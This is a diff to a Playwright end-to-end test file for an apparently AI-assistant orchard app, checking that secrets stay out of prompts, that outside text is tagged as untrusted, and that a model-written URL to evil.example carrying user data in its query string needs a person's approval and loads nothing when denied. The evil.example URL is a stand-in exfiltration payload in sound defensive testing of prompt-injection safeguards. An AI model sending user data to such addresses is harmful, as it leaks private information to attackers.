@@ -2,7 +2,7 @@ import { test } from "@playwright/test";
 import type { RunView } from "../lib/contracts/run";
 import { sampleModule } from "../lib/module-host/testing";
 import { type AppProcess, startApp } from "./app-process";
-import { callApi, expect, type Installation, owner } from "./fixtures";
+import { callApi, expect, expectAccessible, type Installation, owner, signIn } from "./fixtures";
 import { type ModelServer, startModelServer } from "./model-server/server";
 import { systemText } from "./model-server/protocol";
 import { assistantScript } from "./model-server/scripts/assistant";
@@ -167,4 +167,25 @@ test("the key was in no prompt, and what came from outside was framed as such", 
   expect(model.requests.length).toBeGreaterThan(5);
   for (const { text } of model.requests) expect(text).not.toContain(orchardKey);
   expect(model.requests.at(-1)?.text).toMatch(/<untrusted source=/);
+});
+
+test("an address that only the model wrote is put to the person once such text is there; a no loads nothing", async ({
+  page,
+}) => {
+  const { conversationId } = await ask("List my trees");
+  await signIn(page, app.url);
+  await page.goto(`${app.url}/chat/${conversationId}`);
+  const box = page.getByRole("textbox", { name: "Message" });
+  // Escaped as JSON may be, so the words of the person do not hold the address.
+  await box.fill(String.raw`Use load_web_page with {"url":"https:\/\/evil.example\/?trees=Boskoop"}`);
+  await box.press("Enter");
+  const card = page.getByRole("region", { name: "Read a page of evil.example" });
+  await expect(card).toContainText("Opens an address that only the model wrote");
+  await expect(card).toContainText("https://evil.example/?trees=Boskoop");
+  await expect(card).toContainText("after reading text from outside: garden/orchard");
+  await expect(card.getByRole("button", { name: /Always/ })).toHaveCount(0);
+  await expectAccessible(page);
+  await card.getByRole("button", { name: /^Deny/ }).click();
+  await expect(page.getByText(/You denied this; nothing was done/)).toBeVisible();
+  expect(model.requests.at(-1)?.text).toContain("The person denied this");
 });
